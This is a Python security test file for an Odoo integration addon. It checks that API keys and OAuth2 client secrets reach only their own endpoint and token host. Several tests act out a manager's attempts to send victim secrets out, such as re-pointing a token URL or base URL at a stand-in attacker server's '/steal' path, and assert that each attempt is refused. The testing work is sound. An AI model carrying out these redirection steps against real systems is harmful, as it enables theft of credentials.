# Copyright 2026 Interop
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""A secret goes only to the endpoint it was given for, and to its host."""

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged
from odoo.tools import SQL

from .common import VICTIM_CLIENT_SECRET, VICTIM_SECRET, Answer, SecurityCase


@tagged("post_install", "-at_install")
class TestVaultBelongsToOneEndpoint(SecurityCase):
    def test_attack_manager_reads_vault_via_foreign_credential(self):
        endpoint = self._attacker_endpoint(self.manager)
        refused = self.attempt(
            endpoint.write, {"outbound_credential_id": self.victim_key.id}
        )
        self.attempt(endpoint.action_activate)
        self._run_pull(endpoint, self.manager)
        self.assertSecretNeverArrived(VICTIM_SECRET)
        self.assertIsInstance(refused, ValidationError)
        self.assertFalse(endpoint.sudo().outbound_credential_id)

    def test_attack_manager_moves_a_credential_to_own_endpoint(self):
        endpoint = self._attacker_endpoint(self.manager)
        victim = self.as_client(self.victim_key, self.manager)
        refused = self.attempt(victim.write, {"endpoint_id": endpoint.id})
        self.attempt(endpoint.write, {"outbound_credential_id": victim.id})
        self.attempt(endpoint.action_activate)
        self._run_pull(endpoint, self.manager)
        self.assertSecretNeverArrived(VICTIM_SECRET)
        self.assertIsInstance(refused, UserError)
        self.assertEqual(self.victim_key.endpoint_id, self.endpoint)

    def test_attack_manager_pulls_with_a_foreign_credential(self):
        endpoint = self._attacker_endpoint(self.manager)
        self.attempt(endpoint.action_activate)
        refused = self._run_pull(
            endpoint, self.manager, credential_id=self.victim_key.id
        )
        self.assertSecretNeverArrived(VICTIM_SECRET)
        self.assertIsInstance(refused, ValidationError)

    def test_attack_manager_suspends_an_endpoint_to_redirect_its_secret(self):
        self.endpoint._interop_apply_write(
            {"outbound_credential_id": self.victim_key.id}
        )
        endpoint = self.as_client(self.endpoint, self.manager)
        endpoint.action_suspend()
        refused = self.attempt(
            endpoint.write, {"base_url": self.attacker_server.url + "/collect"}
        )
        endpoint.action_activate()
        self._run_pull(self.endpoint, self.manager)
        self.assertSecretNeverArrived(VICTIM_SECRET)
        self.assertIsInstance(refused, UserError)
        self.assertEqual(self.endpoint.base_url, self.remote.url + "/api")

    def test_a_suspended_endpoint_is_edited_through_change_requests(self):
        endpoint = self.env["interop.endpoint"].create(
            self._endpoint_vals(code="no-secret", name="No Secret")
        )
        endpoint._activate()
        endpoint.action_suspend()
        with self.assertRaisesRegex(UserError, "approved change request"):
            self.as_client(endpoint, self.manager).write({"name": "Renamed"})
        self.assertEqual(endpoint.name, "No Secret")

    def test_a_credential_of_the_endpoint_itself_is_still_used(self):
        own = self.env["interop.credential"].create(
            {
                "name": "Own key",
                "kind": "api_key",
                "endpoint_id": self.endpoint.id,
                "header_name": "X-Own-Key",
            }
        )
        own._set_secret("own-key")
        self.endpoint._interop_apply_write({"outbound_credential_id": own.id})
        self.endpoint._send(None, {"ping": 1})._job_send()
        self.assertEqual(self.remote.received[-1].headers["X-Own-Key"], "own-key")

    def test_a_foreign_credential_left_by_old_data_is_never_sent(self):
        other = self.env["interop.endpoint"].create(
            self._endpoint_vals(code="other-endpoint", name="Other")
        )
        foreign = self.env["interop.credential"].create(
            {"name": "Foreign", "kind": "api_key", "endpoint_id": other.id}
        )
        foreign._set_secret(VICTIM_SECRET)
        # data written before the constraint existed, past every check
        self.env.flush_all()
        self.env.cr.execute(
            SQL(
                "UPDATE interop_endpoint SET outbound_credential_id = %s WHERE id = %s",
                foreign.id,
                self.endpoint.id,
            )
        )
        self.env.invalidate_all()
        message = self.endpoint._send(None, {"ping": 1})
        message._job_send()
        self.assertEqual(message.state, "failed")
        self.assertFalse(self.remote.received)


@tagged("post_install", "-at_install")
class TestTokenUrl(SecurityCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.oauth = cls.env["interop.credential"].create(
            {
                "name": "Victim OAuth2",
                "kind": "oauth2_client_credentials",
                "endpoint_id": cls.endpoint.id,
                "client_id": "victim-client",
                "token_url": cls.remote.url + "/oauth/token",
            }
        )
        cls.oauth._set_secret(VICTIM_CLIENT_SECRET)
        cls.draft_endpoint = cls.env["interop.endpoint"].create(
            cls._endpoint_vals(
                code="draft-partner",
                name="Draft Partner",
                environment="test",
                base_url=cls.remote.url + "/api",
            )
        )

    def setUp(self):
        super().setUp()
        token = Answer(200, {"access_token": "tok", "expires_in": 3600})
        self.remote.answer("/oauth/token", token)
        self.attacker_server.answer("/steal", token)

    def test_attack_manager_points_token_url_at_own_server(self):
        oauth = self.as_client(self.oauth, self.manager)
        self.attempt(oauth.write, {"token_url": self.attacker_server.url + "/steal"})
        self.attempt(
            oauth.with_context(interop_request_change=True).write,
            {"token_url": self.attacker_server.url + "/steal"},
        )
        self.attempt(oauth.action_fetch_token)
        self.assertSecretNeverArrived(VICTIM_CLIENT_SECRET)
        self.assertEqual(self.oauth.token_url, self.remote.url + "/oauth/token")

    def test_attack_manager_sends_a_draft_endpoint_secret_to_another_host(self):
        credential = self.env["interop.credential"].create(
            {
                "name": "Draft OAuth2",
                "kind": "oauth2_client_credentials",
                "endpoint_id": self.draft_endpoint.id,
                "client_id": "draft-client",
                "token_url": self.remote.url + "/oauth/token",
            }
        )
        credential._set_secret(VICTIM_CLIENT_SECRET)
        credential = self.as_client(credential, self.manager)
        refused = self.attempt(
            credential.write, {"token_url": self.attacker_server.url + "/steal"}
        )
        self.draft_endpoint.action_activate()
        self.attempt(credential.action_fetch_token)
        self.assertSecretNeverArrived(VICTIM_CLIENT_SECRET)
        self.assertIsInstance(refused, ValidationError)

    def test_attack_manager_allows_another_token_host_himself(self):
        oauth = self.as_client(self.oauth, self.manager)
        refused = self.attempt(oauth.write, {"is_foreign_token_host_allowed": True})
        self.assertIsInstance(refused, AccessError)
        self.assertFalse(self.oauth.is_foreign_token_host_allowed)
        Credential = self.as_client(self.env["interop.credential"], self.manager)
        refused = self.attempt(
            Credential.create,
            {
                "name": "Self-allowed",
                "kind": "oauth2_client_credentials",
                "endpoint_id": self.draft_endpoint.id,
                "token_url": self.attacker_server.url + "/steal",
                "is_foreign_token_host_allowed": True,
            },
        )
        self.assertIsInstance(refused, AccessError)

    def test_an_administrator_allows_a_token_host_of_its_own(self):
        credential = self.as_client(self.env["interop.credential"], self.admin).create(
            {
                "name": "Identity provider",
                "kind": "oauth2_client_credentials",
                "endpoint_id": self.draft_endpoint.id,
                "client_id": "idp-client",
                "token_url": self.attacker_server.url + "/steal",
                "is_foreign_token_host_allowed": True,
            }
        )
        self.assertTrue(credential.is_foreign_token_host_allowed)
        # a manager who re-points it loses the administrator's allowance
        refused = self.attempt(
            self.as_client(credential, self.manager).write,
            {"token_url": "http://127.0.0.2:9/token"},
        )
        self.assertIsInstance(refused, ValidationError)

    def test_a_token_url_of_a_running_endpoint_changes_through_a_change_request(self):
        new_url = self.remote.url + "/oauth/v2/token"
        oauth = self.as_client(self.oauth, self.manager)
        with self.assertRaisesRegex(UserError, "approved change request"):
            oauth.write({"token_url": new_url})
        oauth.with_context(interop_request_change=True).write({"token_url": new_url})
        self.assertNotEqual(self.oauth.token_url, new_url)
        request = self.env["interop.change.request"].search(
            [("res_model", "=", "interop.credential"), ("res_id", "=", self.oauth.id)]
        )
        self.assertEqual(request._values(), {"token_url": new_url})
